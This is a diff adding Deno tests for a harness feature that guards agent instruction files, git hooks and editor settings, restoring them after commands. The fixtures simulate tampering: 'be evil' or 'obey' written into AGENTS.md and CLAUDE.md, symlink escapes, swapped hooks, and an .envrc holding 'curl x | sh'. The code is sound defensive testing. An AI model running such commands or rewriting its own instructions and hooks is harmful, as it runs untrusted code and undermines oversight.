@@ -1,0 +1,301 @@
+import assert from "node:assert/strict";
+import { KeptWorkspace, lines } from "../../../tests/support/kept_workspace.ts";
+import { FILE_BYTES_MAX } from "./kept_files_data.ts";
+
+const PROJECT = {
+  "AGENTS.md": "be kind\n",
+  ".env": "KEY=1\n",
+  ".vscode/settings.json": "{}\n",
+  ".claude/agents/a.md": "a\n",
+  ".git/config": "[core]\n\tbare = false\n",
+  ".git/HEAD": "ref: refs/heads/main\n",
+  ".git/hooks/pre-commit": "#!/bin/sh\ntrue\n",
+  ".git/hooks/pre-push.sample": "sample\n",
+  "src/main.ts": "1\n",
+  "packages/a/AGENTS.md": "of a\n",
+};
+
+Deno.test("KeptFiles.check() finds nothing when a command changed other files", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  await work.remember();
+  const done = await work.searched(() => {
+    work.write("src/main.ts", "2\n");
+    work.write("new/file", "x");
+    work.write(".git/index", "x");
+    work.write(".git/hooks/x.sample", "x");
+    work.write(".vscode/extensions.json", "{}");
+    work.write(".env.example", "KEY=");
+  });
+  assert.deepEqual(done, []);
+  assert.equal(work.read("src/main.ts"), "2\n");
+});
+
+Deno.test("KeptFiles.check() restores content, also when size and times are as before", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  await work.remember();
+  const { mtime, atime } = await Deno.stat(work.at("AGENTS.md"));
+  const done = work.command(() => {
+    work.write("AGENTS.md", "be evil\n");
+    Deno.utimeSync(work.at("AGENTS.md"), atime!, mtime!);
+  });
+  assert.deepEqual(done, ["changed restored AGENTS.md"]);
+  assert.equal(work.read("AGENTS.md"), "be kind\n");
+  assert.equal(await Deno.readTextFile(work.told[0]!.copy!), "be evil\n");
+});
+
+Deno.test("KeptFiles.check() restores what was deleted, with its directories", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  await Deno.chmod(work.at(".git/hooks/pre-commit"), 0o755);
+  await work.remember();
+  const done = work.command(() => {
+    Deno.removeSync(work.at("AGENTS.md"));
+    Deno.removeSync(work.at(".claude"), { recursive: true });
+    Deno.removeSync(work.at(".git/hooks"), { recursive: true });
+  });
+  assert.ok(done.includes("deleted restored AGENTS.md"), done.join());
+  assert.equal(work.read("AGENTS.md"), "be kind\n");
+  assert.equal(work.read(".claude/agents/a.md"), "a\n");
+  assert.equal(work.mode(".git/hooks/pre-commit"), 0o755);
+  assert.deepEqual(work.command(() => {}), []);
+});
+
+Deno.test("KeptFiles.check() removes new files, keeps a copy and leaves no empty directory", async () => {
+  await using work = new KeptWorkspace({ "src/main.ts": "1" });
+  await work.remember();
+  const done = work.command(() => {
+    work.write("CLAUDE.md", "obey\n");
+    work.write(".cursor/rules/x.mdc", "obey\n");
+    work.write(".envrc", "curl x | sh\n");
+    Deno.symlinkSync("/etc", work.at(".claude"));
+  });
+  assert.deepEqual(done.sort(), [
+    "created removed .claude",
+    "created removed .cursor/rules/x.mdc",
+    "created removed .envrc",
+    "created removed CLAUDE.md",
+  ]);
+  const left = (await Array.fromAsync(Deno.readDir(work.root))).map(({ name }) => name);
+  assert.deepEqual(left, ["src"]);
+  const copy = work.told.find(({ shown }) => shown === "CLAUDE.md")!.copy!;
+  assert.equal(await Deno.readTextFile(copy), "obey\n");
+  assert.equal((await Deno.stat(`${work.storeDir}`)).mode! & 0o77, 0);
+});
+
+Deno.test("KeptFiles.check() restores modes of files and of directories", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  await Deno.chmod(work.at(".git/hooks/pre-commit"), 0o644);
+  await work.remember();
+  const before = work.mode(".git/hooks");
+  const done = work.command(() => {
+    Deno.chmodSync(work.at(".git/hooks/pre-commit"), 0o755);
+    Deno.chmodSync(work.at(".git/hooks"), 0o777);
+  });
+  assert.deepEqual(done.sort(), [
+    "mode restored .git/hooks",
+    "mode restored .git/hooks/pre-commit",
+  ]);
+  assert.equal(work.mode(".git/hooks/pre-commit"), 0o644);
+  assert.equal(work.mode(".git/hooks"), before);
+});
+
+Deno.test("KeptFiles.check() undoes links in place of files and directories", async () => {
+  await using work = new KeptWorkspace({ ...PROJECT, "evil/pre-commit": "evil\n" });
+  await work.remember();
+  const done = work.command(() => {
+    Deno.removeSync(work.at("AGENTS.md"));
+    Deno.symlinkSync("src/main.ts", work.at("AGENTS.md"));
+    Deno.renameSync(work.at(".git/hooks"), work.at("src/hooks"));
+    Deno.symlinkSync("../evil", work.at(".git/hooks"));
+  });
+  assert.deepEqual(done.sort(), [
+    "deleted restored .git/hooks/pre-commit",
+    "replaced restored .git/hooks",
+    "replaced restored AGENTS.md",
+  ]);
+  assert.ok((await Deno.lstat(work.at("AGENTS.md"))).isFile);
+  assert.ok((await Deno.lstat(work.at(".git/hooks"))).isDirectory);
+  assert.equal(work.read(".git/hooks/pre-commit"), "#!/bin/sh\ntrue\n");
+  assert.equal(work.read("evil/pre-commit"), "evil\n");
+  assert.equal(work.read("src/main.ts"), "1\n");
+});
+
+Deno.test("KeptFiles.check() brings a renamed directory back with all that it holds", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  await work.remember();
+  const done = work.command(() => {
+    Deno.renameSync(work.at(".git"), work.at("old"));
+    Deno.symlinkSync("evil", work.at(".git"));
+  });
+  assert.deepEqual(done, ["replaced restored .git"]);
+  assert.equal(work.read(".git/HEAD"), "ref: refs/heads/main\n");
+  assert.equal(work.has("old"), false);
+});
+
+Deno.test("KeptFiles.check() moves a directory aside that took a file's name", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  await work.remember();
+  const done = work.command(() => {
+    Deno.removeSync(work.at("AGENTS.md"));
+    work.write("AGENTS.md/inside", "x");
+  });
+  assert.deepEqual(done, ["replaced restored AGENTS.md"]);
+  assert.equal(work.read("AGENTS.md"), "be kind\n");
+  assert.equal(await Deno.readTextFile(`${work.told[0]!.copy}/inside`), "x");
+});
+
+Deno.test("KeptFiles.check() notices a change through another name of the file", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  await work.remember();
+  assert.deepEqual(work.command(() => Deno.linkSync(work.at("AGENTS.md"), work.at("other"))), []);
+  const done = work.command(() => work.write("other", "be evil\n"));
+  assert.deepEqual(done, ["changed restored AGENTS.md"]);
+  assert.equal(work.read("AGENTS.md"), "be kind\n");
+  assert.equal(work.read("other"), "be evil\n");
+});
+
+Deno.test("KeptFiles.check() keeps what a kept link leads to", async () => {
+  await using work = new KeptWorkspace({ "docs/agents.md": "x", "docs/rules.txt": "kind\n" });
+  await Deno.symlink("docs/rules.txt", work.at("AGENTS.md"));
+  await work.remember();
+  const done = work.command(() => work.write("docs/rules.txt", "evil\n"));
+  assert.deepEqual(done, ["changed restored docs/rules.txt"]);
+  assert.equal(await Deno.readLink(work.at("AGENTS.md")), "docs/rules.txt");
+});
+
+Deno.test("KeptFiles.check() tells of a change in a file that is too large to remember", async () => {
+  await using work = new KeptWorkspace({ "AGENTS.md": "x".repeat(FILE_BYTES_MAX + 1) });
+  await work.remember();
+  assert.deepEqual(work.command(() => {}), []);
+  const done = work.command(() => Deno.truncateSync(work.at("AGENTS.md"), FILE_BYTES_MAX + 2));
+  assert.deepEqual(done, ["changed left AGENTS.md"]);
+  assert.match(work.told[0]!.reason!, /too large/);
+  assert.deepEqual(work.command(() => {}), []);
+});
+
+Deno.test("KeptFiles.check() is not blocked by a pipe in a file's place", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  await work.remember();
+  const done = work.command(() => work.sh("rm AGENTS.md; mkfifo AGENTS.md GEMINI.md"));
+  assert.deepEqual(done.sort(), ["created removed GEMINI.md", "replaced restored AGENTS.md"]);
+});
+
+Deno.test("KeptFiles.beforeCommand() takes over what others changed between commands", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  await work.remember();
+  assert.deepEqual(work.command(() => {}), []);
+  work.write("AGENTS.md", "be brief\n");
+  work.write(".hermes/notes.md", "n\n");
+  await Deno.remove(work.at(".env"));
+  await Deno.remove(work.at(".vscode"), { recursive: true });
+  await Deno.symlink(".claude", work.at(".vscode"));
+  assert.deepEqual(work.command(() => {}), []);
+  assert.equal(work.read("AGENTS.md"), "be brief\n");
+  assert.equal(work.has(".env"), false);
+  const done = work.command(() => {
+    Deno.removeSync(work.at(".vscode"));
+    work.write(".hermes/notes.md", "x\n");
+  });
+  assert.deepEqual(done.sort(), ["changed restored .hermes/notes.md", "deleted restored .vscode"]);
+});
+
+Deno.test("KeptFiles.beforeCommand() puts back while a background process runs", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  let isBusy = false;
+  const kept = await work.remember({ isBusy: () => isBusy });
+  assert.deepEqual(work.command(() => isBusy = true), []);
+  work.write("AGENTS.md", "be evil\n");
+  assert.deepEqual(work.command(() => {}), ["changed restored AGENTS.md"]);
+  work.write("AGENTS.md", "be evil\n");
+  isBusy = false;
+  assert.deepEqual(lines(kept.backgroundEnded()), ["changed restored AGENTS.md"]);
+});
+
+Deno.test("KeptFiles.noteAllowed() takes over this file and no other", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  const kept = await work.remember();
+  const done = work.command(() => {
+    work.write("AGENTS.md", "allowed\n");
+    work.write(".idea/workspace.xml", "allowed\n");
+    work.write(".env", "KEY=2\n");
+    work.write("CLAUDE.md", "evil\n");
+    kept.noteAllowed(work.at("AGENTS.md"));
+    kept.noteAllowed(work.at(".idea/workspace.xml"));
+  });
+  assert.deepEqual(done.sort(), ["changed restored .env", "created removed CLAUDE.md"]);
+  assert.equal(work.read("AGENTS.md"), "allowed\n");
+  assert.equal(work.read(".idea/workspace.xml"), "allowed\n");
+});
+
+Deno.test("KeptFiles leaves alone what belongs to hermes itself", async () => {
+  await using work = new KeptWorkspace({ ".hermes/config.yaml": "a: 1\n" });
+  const places = { homes: [], hermesHomes: [work.at(".hermes")], trustedBase: [] };
+  await work.remember({ places });
+  const done = work.command(() => {
+    work.write(".hermes/config.yaml", "a: 2\n");
+    work.write(".hermes/sessions.db", "x");
+  });
+  assert.deepEqual(done, []);
+  assert.equal(work.read(".hermes/config.yaml"), "a: 2\n");
+});
+
+Deno.test("KeptFiles keeps files deeper in the project that were there before", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  await work.remember();
+  const done = await work.searched(() => {
+    work.write("packages/a/AGENTS.md", "evil\n");
+    work.write("src/CLAUDE.md", "evil\n");
+    work.write("src/.vscode/tasks.json", "{}");
+    work.write("src/node_modules/x/AGENTS.md", "of a package\n");
+  });
+  assert.deepEqual(done.sort(), [
+    "changed restored packages/a/AGENTS.md",
+    "created removed src/.vscode/tasks.json",
+    "created removed src/CLAUDE.md",
+  ]);
+  assert.equal(work.read("packages/a/AGENTS.md"), "of a\n");
+  assert.equal(work.has("src/.vscode"), false);
+  assert.equal(work.read("src/node_modules/x/AGENTS.md"), "of a package\n");
+});
+
+Deno.test("KeptFiles lets commands make, move and remove whole directories", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  await work.remember();
+  const done = await work.searched(() => {
+    work.write("fresh/AGENTS.md", "of a template\n");
+    work.write("fresh/.vscode/tasks.json", "{}");
+    work.write("fresh/.env", "A=1");
+    Deno.renameSync(work.at("packages/a"), work.at("packages/b"));
+  });
+  assert.deepEqual(done, []);
+  assert.equal(work.read("packages/b/AGENTS.md"), "of a\n");
+  assert.equal(work.read("fresh/AGENTS.md"), "of a template\n");
+  assert.deepEqual(
+    await work.searched(() => Deno.removeSync(work.at("packages"), { recursive: true })),
+    [],
+  );
+  assert.equal(work.has("packages"), false);
+});
+
+Deno.test("KeptFiles.close() compares contents once more and tells what it found", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  const kept = await work.remember();
+  assert.deepEqual(work.command(() => {}), []);
+  work.write("AGENTS.md", "late\n");
+  assert.deepEqual(lines(await kept.close()), ["changed restored AGENTS.md"]);
+  assert.deepEqual(await kept.close(), []);
+});
+
+Deno.test("KeptFiles is not led out of the workspace by links on the way to a kept file", async () => {
+  await using work = new KeptWorkspace(PROJECT);
+  await work.remember();
+  await Deno.mkdir(`${work.base}/outside/agents`, { recursive: true });
+  await Deno.writeTextFile(`${work.base}/outside/agents/a.md`, "outside\n");
+  const done = work.command(() => {
+    Deno.renameSync(work.at(".claude"), work.at("src/claude"));
+    Deno.symlinkSync(`${work.base}/outside`, work.at(".claude"));
+  });
+  assert.ok(done.includes("replaced restored .claude"), done.join());
+  assert.equal(work.read(".claude/agents/a.md"), "a\n");
+  assert.ok((await Deno.lstat(work.at(".claude"))).isDirectory);
+  assert.equal(await Deno.readTextFile(`${work.base}/outside/agents/a.md`), "outside\n");
+});
